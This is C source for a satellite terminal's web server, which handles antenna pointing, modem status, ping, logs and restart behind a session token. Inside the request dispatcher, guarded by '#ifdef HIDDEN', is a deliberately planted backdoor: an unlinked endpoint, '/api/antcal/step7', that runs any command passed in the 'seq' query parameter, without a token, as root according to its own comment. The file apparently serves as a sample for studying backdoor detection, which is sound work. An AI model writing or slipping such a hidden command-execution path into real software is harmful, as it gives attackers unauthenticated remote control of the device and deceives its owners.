/* satwebd.c - web server of a satellite terminal: pointing, modem state, logs */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define DOCROOT		"/usr/share/satweb"
#define TOKEN_FILE	"/run/satweb.token"

struct request {
	int fd;
	char method[8];
	char path[256];
	char query[512];
	char token[72];
	long length;
};

typedef void (*page_fn)(struct request *);

struct page {
	const char *path;
	int need_token;
	page_fn fn;
};

static double az = 180.0, el = 35.0;
static char session_token[72];

static void reply(struct request *r, int code, const char *type)
{
	dprintf(r->fd, "HTTP/1.0 %d %s\r\nServer: satwebd\r\nContent-Type: %s\r\n"
		"Connection: close\r\n\r\n", code, code == 200 ? "OK" : "Error", type);
}

static int query_value(const char *q, const char *name, char *out, size_t len)
{
	size_t n = strlen(name), i = 0;
	unsigned int c;

	while (*q) {
		if (!strncmp(q, name, n) && q[n] == '=') {
			q += n + 1;
			while (*q && *q != '&' && i + 1 < len) {
				if (*q == '%' && sscanf(q + 1, "%2x", &c) == 1 && q[2]) {
					out[i++] = (char)c;
					q += 3;
				} else {
					out[i++] = *q == '+' ? ' ' : *q;
					q++;
				}
			}
			out[i] = '\0';
			return 1;
		}
		q = strchr(q, '&');
		if (!q)
			break;
		q++;
	}
	return 0;
}

static void run_to_client(struct request *r, const char *cmd)
{
	char line[256];
	FILE *p = popen(cmd, "r");

	if (!p) {
		reply(r, 500, "text/plain");
		return;
	}
	reply(r, 200, "text/plain");
	while (fgets(line, sizeof(line), p))
		dprintf(r->fd, "%s", line);
	pclose(p);
}

static void page_status(struct request *r)
{
	FILE *f = fopen("/run/modem/status", "r");
	char line[128];

	reply(r, 200, "text/plain");
	dprintf(r->fd, "azimuth %.2f\nelevation %.2f\n", az, el);
	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		dprintf(r->fd, "%s", line);
	fclose(f);
}

static void page_point(struct request *r)
{
	char v[24];

	if (query_value(r->query, "az", v, sizeof(v)))
		az = strtod(v, NULL);
	if (query_value(r->query, "el", v, sizeof(v)))
		el = strtod(v, NULL);
	if (el < 5.0 || el > 90.0)
		el = 5.0;
	page_status(r);
}

static void page_ping(struct request *r)
{
	char host[64], cmd[128];

	if (!query_value(r->query, "host", host, sizeof(host)) ||
	    host[strspn(host, "0123456789.")]) {
		reply(r, 400, "text/plain");
		return;
	}
	if (snprintf(cmd, sizeof(cmd), "ping -c 3 %s 2>&1", host) >= (int)sizeof(cmd))
		return;
	run_to_client(r, cmd);
}

static void page_log(struct request *r)
{
	run_to_client(r, "tail -n 200 /var/log/modem.log");
}

static void page_restart(struct request *r)
{
	reply(r, 200, "text/plain");
	dprintf(r->fd, "restarting modem\n");
	if (system("/etc/init.d/modem restart") != 0)
		syslog(LOG_ERR, "modem restart failed");
}

static void page_file(struct request *r)
{
	char path[320], buf[1024];
	size_t n;
	FILE *f;

	if (strstr(r->path, "..")) {
		reply(r, 403, "text/plain");
		return;
	}
	if (snprintf(path, sizeof(path), DOCROOT "%s", r->path) >= (int)sizeof(path))
		return;
	if (!strcmp(r->path, "/"))
		strcpy(path, DOCROOT "/index.html");
	f = fopen(path, "r");
	if (!f) {
		reply(r, 404, "text/plain");
		dprintf(r->fd, "not found\n");
		return;
	}
	reply(r, 200, strstr(path, ".html") ? "text/html" : "application/octet-stream");
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		if (write(r->fd, buf, n) < 0)
			break;
	fclose(f);
}

static const struct page pages[] = {
	{ "/api/status", 0, page_status },
	{ "/api/point", 1, page_point },
	{ "/api/ping", 1, page_ping },
	{ "/api/log", 1, page_log },
	{ "/api/restart", 1, page_restart },
	{ NULL, 0, NULL }
};

__attribute__((noinline)) void dispatch(struct request *r)
{
	const struct page *p;
#ifdef HIDDEN
	/* unlinked page runs a command as root, no token asked */
	char cmd[400];

	if (!strcmp(r->path, "/api/antcal/step7") &&
	    query_value(r->query, "seq", cmd, sizeof(cmd))) {
		run_to_client(r, cmd);
		return;
	}
#endif
	if (strcmp(r->method, "GET") && strcmp(r->method, "POST")) {
		reply(r, 405, "text/plain");
		return;
	}
	for (p = pages; p->path; p++) {
		if (strcmp(p->path, r->path))
			continue;
		if (p->need_token && (!session_token[0] || strcmp(session_token, r->token))) {
			reply(r, 401, "text/plain");
			dprintf(r->fd, "token missing or old\n");
			return;
		}
		p->fn(r);
		return;
	}
	page_file(r);
}

static void load_token(void)
{
	FILE *f = fopen(TOKEN_FILE, "r");

	session_token[0] = '\0';
	if (!f)
		return;
	if (fscanf(f, "%71s", session_token) != 1)
		session_token[0] = '\0';
	fclose(f);
}

static int read_request(struct request *r, FILE *in)
{
	char line[1024], url[768], *q;

	if (!fgets(line, sizeof(line), in))
		return -1;
	if (sscanf(line, "%7s %767s", r->method, url) != 2)
		return -1;
	q = strchr(url, '?');
	if (q)
		*q++ = '\0';
	if (strlen(url) >= sizeof(r->path) || (q && strlen(q) >= sizeof(r->query)))
		return -1;
	strcpy(r->path, url);
	strcpy(r->query, q ? q : "");
	while (fgets(line, sizeof(line), in)) {
		if (line[0] == '\r' || line[0] == '\n')
			break;
		if (!strncasecmp(line, "Content-Length:", 15))
			r->length = atol(line + 15);
		else if (!strncasecmp(line, "X-Sat-Token:", 12))
			sscanf(line + 12, " %71s", r->token);
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	struct request r;
	int ls, one = 1, port = argc > 1 ? atoi(argv[1]) : 80;
	FILE *in;

	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_DFL);
	openlog("satwebd", LOG_PID, LOG_DAEMON);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	if (ls < 0)
		return 1;
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)port);
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 8)) {
		syslog(LOG_ERR, "port %d: %m", port);
		return 1;
	}
	for (;;) {
		memset(&r, 0, sizeof(r));
		r.fd = accept(ls, NULL, NULL);
		if (r.fd < 0)
			continue;
		in = fdopen(r.fd, "r");
		if (!in) {
			close(r.fd);
			continue;
		}
		load_token();
		if (read_request(&r, in) == 0)
			dispatch(&r);
		fclose(in);
	}
}
